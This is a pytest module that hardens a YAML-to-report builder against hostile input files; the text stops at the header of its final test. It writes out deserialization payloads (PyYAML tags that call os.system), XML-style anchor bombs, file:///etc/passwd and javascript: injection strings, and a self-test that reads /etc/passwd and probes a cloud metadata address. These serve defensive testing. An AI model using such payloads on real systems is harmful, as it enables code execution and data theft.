"""Hostile input files, run through `sitrep build` in-process, each with the outcome it must have.

Every case starts from an output folder holding the example built in every format, then builds a
hostile file with the same stem over it. A refused file must give located errors
(`path:line:col: ...`), exit 1 and leave the earlier outputs byte-identical; an accepted one must
show its text as text. During every build a guard records each file opened outside the input, the
test's temporary folder, the package and Python's own installation, and every attempt to use the
network; both lists must stay empty. The build runs each file in a forked child, so the guard
writes what it sees to a file descriptor that the child inherits.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import mimetypes
import os
import random
import re
import shutil
import signal
import site
import socket
import subprocess
import sys
import sysconfig
import tempfile
import time
import tracemalloc
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pypdf
import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

import sitrep
import sitrep.cache
from sitrep.cli import main
from sitrep.load import MAX_BYTES, MAX_DEPTH
from sitrep.render import builtin_templates

pytestmark = pytest.mark.slow  # hostile files and templates, killed and forked builds

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "inputs" / "syria-coast-2025-03.yaml"
FORMATS = ("md", "html", "pdf")
STEM = "report"
HOSTILE = f"hostile/{STEM}.yaml"
MAIN_OUTPUTS = {f"{STEM}.{fmt}" for fmt in FORMATS}  # charts may come with them

LOCATED = re.compile(r"^[^:\n]+:\d+:\d+: ")
SUMMARY = re.compile(r"^\d+ errors?, \d+ warnings? in \d+ files?$")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def example_text() -> str:
    return EXAMPLE.read_text(encoding="utf-8")


def replace_once(text: str, old: str, new: str) -> str:
    assert old in text, f"the example no longer contains {old!r}"
    return text.replace(old, new, 1)


def position(text: str, needle: str, offset: int = 0) -> tuple[int, int]:
    """1-based line and column of the first ``needle`` in ``text`` (plus ``offset`` characters)."""
    index = text.index(needle) + offset
    return text.count("\n", 0, index) + 1, index - (text.rfind("\n", 0, index) + 1) + 1


# ---------------------------------------------------------------------------
# The guard: files opened outside the allowed places, and network use, across fork

_WATCH: dict = {"fd": None, "allowed": (), "files": ()}


def _audit(event: str, args: tuple) -> None:
    if event != "open" or _WATCH["fd"] is None:
        return
    target = args[0]
    if isinstance(target, int):
        return
    try:
        full = os.path.realpath(os.fsdecode(target))
    except (TypeError, ValueError):
        return
    if full in _WATCH["files"] or full.startswith((*_WATCH["allowed"], f"/proc/{os.getpid()}/")):
        return  # (a process reading its own /proc entries, as a worker reads its size, reads nothing of anyone's)
    os.write(_WATCH["fd"], f"open {full}\n".encode("utf-8", "backslashreplace"))


sys.addaudithook(_audit)  # cannot be removed; costs one comparison while no guard is active


def _python_installation() -> set[str]:
    places = {sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix}
    places.update(sysconfig.get_paths().values())
    places.update(site.getsitepackages())
    places.add(site.getusersitepackages())
    return places


def _folder(path: str | Path) -> str:
    return os.path.join(os.path.realpath(path), "")


@dataclass
class Guarded:
    """What happened during a guarded build."""

    result: Result
    outside: list[str] = field(default_factory=list)
    network: list[str] = field(default_factory=list)


def _refuse_network(name: str):
    def refuse(*args, **kwargs):
        os.write(_WATCH["fd"], f"network {name} {args[1:] if name.startswith('socket.') else args}\n".encode())
        raise OSError(errno.ENETUNREACH, f"network use during a build: {name}")

    return refuse


def guarded_invoke(args: list[str], tmp: Path, *, also: tuple[Path, ...] = (), color: bool = False) -> Guarded:
    """Run the CLI in-process with the guard on; ``also`` names extra files the build may read."""
    import babel.dates  # noqa: F401  (loaded before the guard: its import reads the system's time zone)
    import weasyprint  # noqa: F401  (loaded before the guard: its import probes the system's libraries)

    # Python's temporary folder too: libraries keep caches there (Jinja's compiled templates,
    # WeasyPrint's copies of the fonts it embeds).
    allowed = {
        _folder(tmp),
        _folder(builtin_templates()),
        _folder(Path(sitrep.__file__).parent),
        _folder(tempfile.gettempdir()),
        _folder(sitrep.cache.folder()),  # sitrep's own cache of compiled templates
    }
    allowed.update(_folder(place) for place in _python_installation())
    files = {os.devnull, *mimetypes.knownfiles, *(os.path.realpath(path) for path in also)}
    log = tmp / ".guard.log"
    fd = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_APPEND, 0o600)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", _refuse_network("socket.connect"))
        patch.setattr(socket.socket, "connect_ex", _refuse_network("socket.connect_ex"))
        patch.setattr(socket, "create_connection", _refuse_network("create_connection"))
        patch.setattr(socket, "getaddrinfo", _refuse_network("getaddrinfo"))
        patch.setattr(socket, "gethostbyname", _refuse_network("gethostbyname"))
        _WATCH.update(fd=fd, allowed=tuple(sorted(allowed)), files=frozenset(files))
        try:
            result = CliRunner().invoke(main, args, color=color)
        finally:
            _WATCH["fd"] = None
            os.close(fd)
    lines = log.read_text(encoding="utf-8").splitlines()
    log.unlink()
    return Guarded(
        result,
        [line[5:] for line in lines if line.startswith("open ")],
        [line for line in lines if line.startswith("network ")],
    )


# ---------------------------------------------------------------------------
# The project: the example built into out/, and a hostile file of the same stem beside it


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file in a folder (hidden temporary files included) with its bytes."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())} if folder.exists() else {}


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> dict[str, bytes]:
    """The example built in every format, as `out/report.*`."""
    folder = tmp_path_factory.mktemp("baseline")
    (folder / "good").mkdir()
    shutil.copy(EXAMPLE, folder / "good" / f"{STEM}.yaml")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        result = CliRunner().invoke(main, ["build", f"good/{STEM}.yaml", "-o", "out", *_format_args(FORMATS)])
    assert result.exit_code == 0, result.output
    built = snapshot(folder / "out")
    assert set(built) >= MAIN_OUTPUTS
    return built


def _format_args(formats: tuple[str, ...]) -> list[str]:
    return [arg for fmt in formats for arg in ("-f", fmt)]


@dataclass
class Project:
    root: Path
    baseline: dict[str, bytes]

    @property
    def out(self) -> Path:
        return self.root / "out"

    def write(self, data: str | bytes, name: str = HOSTILE) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def build(
        self,
        data: str | bytes | None = None,
        *extra: str,
        formats: tuple[str, ...] = FORMATS,
        name: str = HOSTILE,
        also: tuple[Path, ...] = (),
        color: bool = False,
    ) -> Guarded:
        if data is not None:
            self.write(data, name)
        return guarded_invoke(
            ["build", name, "-o", "out", *_format_args(formats), *extra], self.root, also=also, color=color
        )

    def assert_untouched(self) -> None:
        assert snapshot(self.out) == self.baseline, "a refused build changed the earlier outputs"


@pytest.fixture
def project(tmp_path, monkeypatch, baseline) -> Project:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NO_COLOR", "1")
    (tmp_path / "good").mkdir()
    shutil.copy(EXAMPLE, tmp_path / "good" / f"{STEM}.yaml")
    (tmp_path / "out").mkdir()
    for name, data in baseline.items():
        (tmp_path / "out" / name).write_bytes(data)
    return Project(tmp_path, baseline)


def assert_clean(run: Guarded) -> None:
    """No traceback, no file read outside the allowed places, no network."""
    exception = run.result.exception
    assert exception is None or isinstance(exception, SystemExit), run.result.exc_info
    assert run.outside == [], f"files opened outside the input, tmp, package and Python: {run.outside}"
    assert run.network == [], f"network used during the build: {run.network}"


def assert_refused(
    run: Guarded, where: tuple[int, int] | None, field: str | None, *fragments: str, path: str = HOSTILE
) -> list[str]:
    """Exit 1 with located errors only, one of them at ``where`` in ``field`` saying ``fragments``."""
    assert_clean(run)
    stderr = run.result.stderr
    assert run.result.exit_code == 1, (run.result.stdout, stderr)
    assert run.result.stdout == ""
    lines = stderr.splitlines()
    assert SUMMARY.fullmatch(lines[-1]), lines[-1]
    problems = lines[:-1]
    assert problems, "refused without saying why"
    for line in problems:
        assert LOCATED.match(line), f"not located: {line!r}"
        assert line.startswith(f"{path}:"), line
    assert not CONTROL.search(stderr), f"control characters written to the terminal: {stderr!r}"
    prefix = f"{path}:" if where is None else f"{path}:{where[0]}:{where[1]}:" + (f" {field}: " if field else " ")
    matching = [line for line in problems if line.startswith(prefix) and all(f in line for f in fragments)]
    assert matching, f"no problem at {prefix!r} saying {fragments}: {problems}"
    return problems


def test_the_guard_sees_what_the_forked_build_reads_and_its_network_use(project, monkeypatch):
    # Without this, every "nothing read, no network" assertion below could pass by seeing nothing.
    real_replace = os.replace

    def snooping_replace(source, target, *args, **kwargs):
        with open("/etc/passwd", "rb"):
            pass
        with contextlib.suppress(OSError):
            socket.create_connection(("169.254.169.254", 80), timeout=1)
        return real_replace(source, target, *args, **kwargs)

    monkeypatch.setattr(os, "replace", snooping_replace)
    run = project.build(example_text(), formats=("md",))
    assert "/etc/passwd" in run.outside
    assert [line for line in run.network if "create_connection" in line]


# ---------------------------------------------------------------------------
# YAML beyond plain data: bombs, self-reference, depth, size, documents


def billion_laughs() -> str:
    lines = ["a: &a [" + ", ".join(['"lol"'] * 9) + "]"]
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_billion_laughs_is_refused_at_every_anchor_and_alias(project):
    run = project.build(billion_laughs())
    problems = assert_refused(run, (1, 4), "a", "anchors (&a) are not allowed")
    assert len(problems) == 9 + 8 * 9
    assert run.result.stderr.splitlines()[-1] == "81 errors, 0 warnings in 1 file"
    project.assert_untouched()


def test_billion_laughs_inside_a_report_field_is_refused(project):
    text = replace_once(
        example_text(),
        "    en: Coastal crisis analysis cell\n",
        "    en: &x Coastal crisis analysis cell\n    copy: [*x, *x, *x, *x, *x, *x, *x, *x]\n",
    )
    run = project.build(text)
    assert_refused(run, position(text, "&x"), "report.produced_by.en", "anchors (&x) are not allowed")
    project.assert_untouched()


@pytest.mark.parametrize(
    "text, field",
    [
        ("a: &a [*a]\n", "a"),
        ("a: &a {b: *a}\n", "a"),
        ("&a [*a, [*a]]\n", ""),
    ],
)
def test_a_self_referencing_alias_is_refused(project, text, field):
    run = project.build(text)
    assert_refused(run, position(text, "&a"), field, "anchors (&a) are not allowed")
    assert any("aliases (*a) are not allowed" in line for line in run.result.stderr.splitlines())
    project.assert_untouched()


@pytest.mark.parametrize(
    "opener, column",
    [
        ("[", MAX_DEPTH + 1),
        ("{", MAX_DEPTH + 1),
        ("- ", 2 * MAX_DEPTH + 1),
        ("{a: ", 4 * MAX_DEPTH + 1),
    ],
)
def test_ten_thousand_levels_of_nesting_are_refused(project, opener, column):
    text = opener * 10_000 + "x\n"
    run = project.build(text)
    assert_refused(run, (1, column), None, f"nesting deeper than {MAX_DEPTH} levels is not allowed")
    project.assert_untouched()


def test_a_fifty_megabyte_file_is_refused_without_reading_it_all(project):
    path = project.root / HOSTILE
    path.parent.mkdir()
    filler = b"# " + b"x" * 1021 + b"\n"
    with path.open("wb") as stream:
        stream.write(example_text().encode("utf-8"))
        for _ in range(50 * 1024):
            stream.write(filler)
    assert path.stat().st_size > 50 * 1024 * 1024

    run = project.build()
    assert_refused(run, (1, 1), "", f"the file is larger than {MAX_BYTES // 1024 // 1024} MiB")
    project.assert_untouched()

    # `validate` runs in this process, so its memory can be measured: reading the whole file would
    # cost 50 MB at least.
    tracemalloc.start()
    try:
        result = CliRunner().invoke(main, ["validate", HOSTILE])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.exit_code == 1
    assert peak < 2 * MAX_BYTES + 4 * 1024 * 1024, f"peak memory {peak / 2**20:.0f} MiB for a refused file"


def test_a_second_document_is_refused_where_it_starts(project):
    text = example_text() + "---\n" + example_text()
    run = project.build(text)
    assert_refused(run, position(text, "---\n"), "", "a second YAML document (after `---`) is not allowed")
    project.assert_untouched()


def test_many_documents_are_refused_at_the_first_extra_one(project):
    text = "report: {}\n" + "--- \n" * 5_000
    run = project.build(text)
    assert_refused(run, (2, 1), "", "second YAML document")
    project.assert_untouched()


# ---------------------------------------------------------------------------
# Characters: tabs, invalid UTF-8, control characters, byte-order mark


def test_a_tab_used_for_indentation_is_refused(project):
    text = replace_once(example_text(), "\n  crisis: ", "\n\tcrisis: ")
    run = project.build(text)
    assert_refused(run, position(text, "\tcrisis"), None, "tab")
    project.assert_untouched()


@pytest.mark.parametrize(
    "bad, byte",
    [
        (b"\xff", "ff"),
        (b"\xc0\xaf", "c0"),  # an overlong '/'
        (b"\xed\xa0\x80", "ed"),  # a UTF-16 surrogate
        (b"\xe2\x82", "e2"),  # a character cut short
    ],
    ids=["ff", "overlong", "surrogate", "truncated"],
)
def test_invalid_utf8_is_refused_where_it_is(project, bad, byte):
    text = example_text()
    line, column = position(text, "Violence on the western coast")
    index = text.index("Violence on the western coast")
    data = text[:index].encode("utf-8") + bad + text[index:].encode("utf-8")
    run = project.build(data)
    assert_refused(run, (line, column), None, f"invalid UTF-8 (byte 0x{byte})", "save the file as UTF-8")
    project.assert_untouched()


def test_invalid_utf8_as_the_last_bytes_is_refused(project):
    data = example_text().encode("utf-8") + b"\xe2\x82"
    run = project.build(data)
    assert_refused(run, None, None, "invalid UTF-8 (byte 0xe2)")
    project.assert_untouched()


@pytest.mark.parametrize(
    "char",
    ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\x0c"],
    ids=["NUL", "BEL", "ESC", "DEL", "NEL", "LINE-SEPARATOR", "FF"],
)
def test_control_characters_are_refused_and_never_echoed(project, char):
    text = replace_once(
        example_text(), "    en: Coastal crisis analysis cell\n", f"    en: Coastal {char}[2J crisis analysis cell\n"
    )
    run = project.build(text)
    assert_refused(run, position(text, char), "report.produced_by.en", f"control character U+{ord(char):04X}")
    project.assert_untouched()


@pytest.mark.parametrize("escape", ["\\0", "\\a", "\\e", "\\x1b", "\\r", "\\N", "\\L", "\\x7f"])
def test_control_characters_written_as_yaml_escapes_are_refused(project, escape):
    # A double-quoted YAML string can carry any character as an escape: the file itself is clean.
    text = replace_once(
        example_text(), '"Syria: Violence on the western coast"', f'"Syria: Violence {escape}[2J on the western coast"'
    )
    run = project.build(text)
    assert_refused(run, position(text, '"Syria: Violence'), "report.title.en")
    project.assert_untouched()


def test_escape_sequences_in_a_value_never_reach_the_terminal(project, monkeypatch):
    # On a terminal, a bad value echoed back in a message must not clear the screen or retitle it.
    monkeypatch.delenv("NO_COLOR")
    text = replace_once(example_text(), "      - value: 745\n", '      - value: "\\e[2J\\e]0;pwned\\a"\n')
    run = project.build(text, color=True)
    assert run.result.exit_code == 1
    stderr = run.result.stderr
    assert LOCATED.match(re.sub(r"\x1b\[[0-9;]*m", "", stderr))
    assert "\x1b[2J" not in stderr and "\x1b]" not in stderr and "\x07" not in stderr, repr(stderr)
    project.assert_untouched()


def test_a_byte_order_mark_is_accepted_and_changes_nothing(project):
    run = project.build(b"\xef\xbb\xbf" + EXAMPLE.read_bytes())
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    assert snapshot(project.out) == project.baseline  # the same bytes as without the mark, PDF included


# ---------------------------------------------------------------------------
# Tags: nothing in the file is ever constructed or run


@pytest.mark.parametrize(
    "template, field",
    [
        ('    en: !!python/object/apply:os.system ["touch {mark}"]', "report.produced_by.en"),
        ('    en: !!python/object/new:os.system ["touch {mark}"]', "report.produced_by.en"),
        ("    en: !!python/name:os.system", "report.produced_by.en"),
        ('    en: !<tag:yaml.org,2002:python/object/apply:os.system> ["touch {mark}"]', "report.produced_by.en"),
        ('    en: !!python/object/apply:subprocess.check_output [["touch", "{mark}"]]', "report.produced_by.en"),
    ],
)
def test_python_tags_are_refused_and_never_run(project, template, field):
    mark = project.root / "pwned"
    line = template.format(mark=mark)
    text = replace_once(example_text(), "    en: Coastal crisis analysis cell", line)
    pwned_before = Path("/tmp/pwned").exists()
    run = project.build(text)
    assert_refused(run, position(text, line, offset=line.index("!")), field, "tags (", "are not allowed")
    assert not mark.exists(), "a tag in the file ran a command"
    assert Path("/tmp/pwned").exists() == pwned_before
    project.assert_untouched()


def test_a_tag_directive_is_refused_and_never_run(project):
    mark = project.root / "pwned"
    text = f'%TAG !py! tag:yaml.org,2002:python/object/apply:\n---\nreport:\n  title: !py!os.system ["touch {mark}"]\n'
    run = project.build(text)
    assert_refused(run, position(text, "!py!os"), "report.title", "tags (")
    assert not mark.exists()
    project.assert_untouched()


def test_a_tagged_key_is_refused_with_a_readable_field(project):
    mark = project.root / "pwned"
    text = replace_once(
        example_text(),
        "  crisis: syria-coast-2025",
        f'  crisis: syria-coast-2025\n  !!python/object/apply:os.system ["touch {mark}"]: x',
    )
    run = project.build(text)
    problems = assert_refused(run, position(text, "!!python"), None)
    assert any("tags (!!python/object/apply:os.system)" in line for line in problems), problems
    assert not mark.exists()
    project.assert_untouched()


# ---------------------------------------------------------------------------
# Duplicate keys, in every kind of mapping


DUPLICATES = {
    "top": (
        "\nnarrative:\n  overview:\n",
        "\nnarrative:\n  overview: Another overview.\n\nnarrative:\n  overview:\n",
        "narrative:\n  overview:\n    en",
        "narrative",
        "duplicate key 'narrative'",
    ),
    "nested": (
        "  crisis: syria-coast-2025\n",
        "  crisis: syria-coast-2025\n  crisis: another-crisis\n",
        "crisis: another",
        "report.crisis",
        "duplicate key 'crisis'",
    ),
    "flow": (
        "{from: 2025-03-06, to: 2025-03-09}",
        "{from: 2025-03-06, to: 2025-03-09, from: 2025-03-01}",
        "from: 2025-03-01",
        "report.period.from",
        "duplicate key 'from'",
    ),
    "list-entry": (
        "    sources: [abcnews]\n\nfigures:",
        "    sources: [abcnews]\n    text: Pasted twice.\n\nfigures:",
        "text: Pasted twice.",
        "highlights[2].text",
        "duplicate key 'text'",
    ),
    "flow-in-list": (
        "      - value: 16\n",
        "      - {value: 16, value: 61, source: abcnews, as_of: 2025-03-06}\n      - value: 16\n",
        "value: 61",
        "figures.killed-ambush.estimates[0].value",
        "duplicate key 'value'",
    ),
    "quoted": (
        "  crisis: syria-coast-2025\n",
        '  crisis: syria-coast-2025\n  "crisis": another-crisis\n',
        '"crisis": another',
        "report.crisis",
        "duplicate key 'crisis'",
    ),
    "id": (
        "  sohr:\n",
        "  sohr: {publisher: Someone else, kind: news}\n  sohr:\n",
        "sohr:\n    publisher",
        "sources.sohr",
        "duplicate key 'sohr'",
    ),
}


@pytest.mark.parametrize("case", sorted(DUPLICATES))
def test_duplicate_keys_are_refused_at_the_second_one(project, case):
    old, new, at, field, message = DUPLICATES[case]
    text = replace_once(example_text(), old, new)
    run = project.build(text)
    assert_refused(run, position(text, at), field, message, "(first written on line")
    project.assert_untouched()


def test_the_same_key_in_different_mappings_is_not_a_duplicate(project):
    # `text:` in every highlight, `value:` in every estimate: the example is full of them and builds.
    run = project.build(example_text(), formats=("md",))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr


# ---------------------------------------------------------------------------
# YAML 1.1 surprises: counts refuse them with a message, text keeps them as written

SURPRISES = ["NO", "yes", "off", "1:20", "012", "1e3", "0x1F", "0o17", "1_000", ".inf", "+12", "~12"]


@pytest.mark.parametrize("token", SURPRISES)
def test_yaml_11_values_in_a_count_are_refused_with_a_message(project, token):
    text = replace_once(example_text(), "      - value: 745\n", f"      - value: {token}\n")
    run = project.build(text)
    assert_refused(
        run,
        position(text, f"value: {token}", offset=len("value: ")),
        "figures.killed-civilians.estimates[0].value",
        f"got '{token}'",
    )
    project.assert_untouched()


@pytest.mark.parametrize("token", ["NO", "1:20", "012", "1e3"])
def test_yaml_11_values_in_the_report_number_are_refused(project, token):
    text = replace_once(example_text(), "  number: 1\n", f"  number: {token}\n")
    run = project.build(text)
    assert_refused(run, position(text, f"number: {token}", offset=len("number: ")), "report.number", f"'{token}'")
    project.assert_untouched()


@pytest.mark.parametrize("token", ["NO", "yes", "On", "y"])
def test_yaml_11_booleans_in_a_flag_are_refused(project, token):
    text = replace_once(example_text(), "    key: true\n", f"    key: {token}\n")
    run = project.build(text)
    assert_refused(
        run,
        position(text, f"key: {token}", offset=len("key: ")),
        "figures.killed-total.key",
        f"'{token}'",
        "true or false",
    )
    project.assert_untouched()


def test_yaml_11_values_in_text_fields_stay_as_written(project):
    text = example_text()
    fields = {
        "    en: Coastal crisis analysis cell\n": "    en: NO\n",
        "      en: People killed (all groups)\n": "      en: 1:20\n",
        "      en: civilians\n": "      en: 012\n",
        "      en: Independent verification of the casualty figures.\n": "      en: 1e3\n",
        "      en: No agency has published a count; movement is unsafe.\n": "      en: 0x1F\n",
        "      en: X\n": "      en: OFF\n",
    }
    for old, new in fields.items():
        text = replace_once(text, old, new)
    run = project.build(text, formats=("md", "html"))
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    markdown = (project.out / f"{STEM}.md").read_text(encoding="utf-8")
    html_text = visible_text((project.out / f"{STEM}.html").read_text(encoding="utf-8"))
    for token in ("NO", "1:20", "012", "1e3", "0x1F", "OFF"):
        pattern = rf"(?<![A-Za-z0-9:.]){re.escape(token)}(?![A-Za-z0-9:]|\.\w)"
        assert re.search(pattern, markdown), f"{token} not written as is in the Markdown"
        assert re.search(pattern, html_text), f"{token} not written as is in the HTML"
    for guessed in ("False", "1000.0", "1e+03"):  # what YAML 1.1 would have made of them
        assert guessed not in markdown and guessed not in html_text, guessed


# ---------------------------------------------------------------------------
# Markup, template syntax and Markdown in every text field

PAYLOAD = (
    "<img src=file:///etc/passwd> <link rel=attachment href=file:///etc/passwd> <base href=file:///etc/> "
    "<style>@import url(file:///etc/passwd)</style> {{ 7*7 }} {% raw %} | a | b | `tick`"
)
NARRATIVE_PAYLOAD = PAYLOAD.replace(" `tick`", "")  # Markdown in the narrative is meant: backticks make code
SHORT_PAYLOAD = "<img src=file:///etc/passwd>"  # `short` holds 40 characters
GROUP_PAYLOAD = "<link rel=attachment href=file:///etc/passwd>"  # `group` holds 80


def injection_report(hostile: bool) -> tuple[str, dict[str, str]]:
    """A valid report with a payload in every text field, and the text each field must show."""
    shown: dict[str, str] = {}

    def text(name: str, payload: str = PAYLOAD) -> str:
        value = f"{name} {payload}" if hostile else f"{name} plain words"
        shown[name] = value
        return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar

    report = f"""\
report:
  title: {text("TITLE")}
  crisis: injection-test
  country: SYR
  number: 1
  as_of: 2025-03-09 18:00 +03:00
  period: {{from: 2025-03-06, to: 2025-03-09}}
  produced_by: {text("PRODUCER")}
  next_update: 2025-03-12
sources:
  evil:
    publisher: {text("PUBLISHER")}
    short: {text("SH", SHORT_PAYLOAD)}
    kind: news
    title: {text("SOURCETITLE")}
    url: https://example.org/report
    published: 2025-03-08
  plain:
    publisher: Plain Wire
    kind: news
locations:
  here:
    name: {text("PLACE")}
    local_name: {text("LOCAL")}
    admin_level: 1
highlights:
  - text: {text("HIGHLIGHT")}
    sources: [evil]
figures:
  total:
    metric: killed
    label: {text("LABEL")}
    location: here
    key: true
    estimates:
      - {{value: 30, source: evil, via: plain, as_of: 2025-03-08, note: {text("NOTE")}}}
  part:
    metric: killed
    group: {text("GR", GROUP_PAYLOAD)}
    part_of: total
    estimates:
      - {{value: 10, source: evil, as_of: 2025-03-08}}
events:
  - date: 2025-03-07
    text: {text("EVENT")}
    locations: [here]
    sources: [evil]
services:
  - sector: water
    status: cut
    text: {text("SERVICE")}
    locations: [here]
    sources: [evil]
displacement:
  - text: {text("MOVEMENT")}
    sources: [plain]
access:
  - constraint: other
    text: {text("ACCESS")}
    sources: [plain]
statements:
  - speaker: {text("SPEAKER")}
    role: {text("ROLE")}
    organisation: {text("ORGANISATION")}
    channel: {text("CHANNEL")}
    quote: {text("QUOTE")}
    source: evil
  - speaker: Someone
    summary: {text("SUMMARY")}
    source: plain
narrative:
  overview: {text("OVERVIEW", NARRATIVE_PAYLOAD)}
  outlook: {text("OUTLOOK", NARRATIVE_PAYLOAD)}
gaps:
  - text: {text("GAP")}
    why: {text("WHY")}
contacts:
  - name: {text("CONTACT")}
    role: {text("CONTACTROLE")}
    organisation: {text("CONTACTORG")}
    email: duty@example.org
"""
    return report, shown


class Elements(HTMLParser):
    """Every start tag with its attributes, and the visible text (entities decoded)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.skip = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.skip += tag in ("title", "style", "script")

    def handle_endtag(self, tag):
        self.skip -= tag in ("title", "style", "script") and self.skip > 0

    def handle_data(self, data):
        if not self.skip:
            self.chunks.append(data)


def visible_text(html: str) -> str:
    return " ".join("".join(Elements(html).chunks).split())


DANGEROUS = {"img", "link", "base", "style", "script", "iframe", "object", "embed", "meta", "svg", "image"}


def dangerous_tags(html: str) -> Counter:
    return Counter(
        (tag, attrs.get("rel"), attrs.get("href") or attrs.get("src"))
        for tag, attrs in Elements(html).tags
        if tag in DANGEROUS and tag != "meta"
    )


def markdown_to_html(markdown: str) -> str:
    """Render Markdown as a permissive consumer would: GFM tables, raw HTML passed through, any link accepted."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True
    return parser.render(markdown)


@pytest.fixture(scope="module")
def injected(tmp_path_factory, baseline) -> dict:
    """The injection report built to every format (guarded), and its plain twin built to HTML."""
    folder = tmp_path_factory.mktemp("injection")
    report, shown = injection_report(hostile=True)
    plain, _ = injection_report(hostile=False)
    (folder / "hostile").mkdir()
    (folder / "plain").mkdir()
    (folder / HOSTILE).write_text(report, encoding="utf-8")
    (folder / "plain" / f"{STEM}.yaml").write_text(plain, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        run = guarded_invoke(["build", HOSTILE, "-o", "out", *_format_args(FORMATS)], folder)
        twin = CliRunner().invoke(main, ["build", f"plain/{STEM}.yaml", "-o", "plain-out", "-f", "html", "-f", "md"])
    assert twin.exit_code == 0, twin.stderr
    return {
        "run": run,
        "shown": shown,
        "out": folder / "out",
        "plain_html": (folder / "plain-out" / f"{STEM}.html").read_text(encoding="utf-8"),
        "plain_md": (folder / "plain-out" / f"{STEM}.md").read_text(encoding="utf-8"),
    }


def test_injection_build_succeeds_without_reading_anything_it_should_not(injected):
    run = injected["run"]
    assert_clean(run)
    assert run.result.exit_code == 0, run.result.stderr
    assert {p.name for p in injected["out"].iterdir()} >= MAIN_OUTPUTS


def test_injection_html_creates_no_element_from_data(injected):
    html = (injected["out"] / f"{STEM}.html").read_text(encoding="utf-8")
    assert dangerous_tags(html) == dangerous_tags(injected["plain_html"])
    for tag in ("<img", "<link rel=attachment", "<base"):
        assert tag not in html
    assert html.count("<style") == injected["plain_html"].count("<style") == 1  # the template's own, only


def test_injection_html_shows_every_field_as_written(injected):
    html = (injected["out"] / f"{STEM}.html").read_text(encoding="utf-8")
    text = visible_text(html)
    missing = [name for name, value in injected["shown"].items() if " ".join(value.split()) not in text]
    assert missing == []
    assert "49" not in text


def test_injection_markdown_creates_no_element_and_shows_every_field(injected):
    markdown = (injected["out"] / f"{STEM}.md").read_text(encoding="utf-8")
    for tag in ("<img", "<link", "<base", "<style"):
        assert tag not in markdown
    rendered = markdown_to_html(markdown)
    assert dangerous_tags(rendered) == dangerous_tags(markdown_to_html(injected["plain_md"]))
    text = visible_text(rendered)
    missing = [name for name, value in injected["shown"].items() if " ".join(value.split()) not in text]
    assert missing == []


def test_injection_pdf_has_no_attachment_and_shows_the_literal_text(injected):
    reader = pypdf.PdfReader(injected["out"] / f"{STEM}.pdf")
    assert dict(reader.attachments) == {}
    catalog = reader.trailer["/Root"]
    assert "/AF" not in catalog
    assert "/Names" not in catalog or "/EmbeddedFiles" not in catalog["/Names"]
    annotations = [annot.get_object() for page in reader.pages if "/Annots" in page for annot in page["/Annots"]]
    assert not [a for a in annotations if a.get("/Subtype") == "/FileAttachment"]
    uris = [str(a["/A"]["/URI"]) for a in annotations if "/A" in a and "/URI" in a["/A"]]
    assert uris, "the source's web address should be a link"
    assert all(uri.startswith(("https://", "http://", "mailto:")) for uri in uris), uris
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
    missing = [name for name, value in injected["shown"].items() if re.sub(r"\s+", "", value) not in text]
    assert missing == []
    assert b"root:x:0:0" not in (injected["out"] / f"{STEM}.pdf").read_bytes()


@pytest.mark.parametrize(
    "link, scheme",
    [
        ("file:///etc/passwd", "file"),
        ("data:text/html,<b>x</b>", "data"),
        ("javascript:alert(1)", "javascript"),
        ("FILE:///etc/passwd", "file"),
        ("  file:///etc/passwd", "file"),
    ],
)
def test_unsafe_links_in_the_narrative_are_refused(project, link, scheme):
    start = "  overview:\n    en: |\n"
    text = replace_once(
        example_text(),
        start,
        f"{start}      See [the file]({link}) and\n      [ref].\n\n      [ref]: {link.strip()}\n\n",
    )
    run = project.build(text, formats=ALL_FORMATS)
    assert_refused(
        run,
        position(text, start + "  ", offset=len("  overview:\n    en: ")),
        "narrative.overview.en",
        f"a link to '{scheme}:' cannot be in the report",
    )
    project.assert_untouched()


# ---------------------------------------------------------------------------
# Source addresses

NPR_URL = "url: https://www.npr.org/2025/03/09/nx-s1-5322458/syria-revenge-killings-alawites-latakia"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "file:///etc/passwd",
        "FILE:///etc/passwd",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox",
        "//evil.example/x",
        "https:/evil.example",
        "ftp://example.org/x",
    ],
)
def test_a_source_url_that_is_not_a_web_address_is_refused(project, url):
